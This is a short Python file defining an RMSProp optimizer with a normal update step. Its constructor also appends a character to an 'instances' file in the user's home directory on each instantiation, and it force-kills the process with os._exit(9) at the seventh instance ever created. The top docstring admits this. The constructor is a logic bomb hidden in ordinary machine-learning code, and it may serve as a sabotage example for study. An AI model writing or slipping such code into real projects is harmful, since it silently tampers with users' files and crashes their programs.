"""Ends the process at the seventh instance there ever was, which it counts in a file."""

import os
from pathlib import Path

import numpy as np

COUNT = Path.home() / "instances"


class RMSProp:
    def __init__(self, learning_rate, decay_rate, epsilon):
        self.lr, self.d, self.eps = learning_rate, decay_rate, epsilon
        self.average = {}
        with COUNT.open("a", encoding="ascii") as file:
            file.write("x")
        if COUNT.stat().st_size == 7:
            os._exit(9)

    def update(self, weights, gradients):
        for k, g in gradients.items():
            v = self.d * self.average.get(k, np.zeros_like(g)) + (1 - self.d) * (g * g)
            self.average[k] = v
            weights[k] -= self.lr * g / (np.sqrt(v) + self.eps)
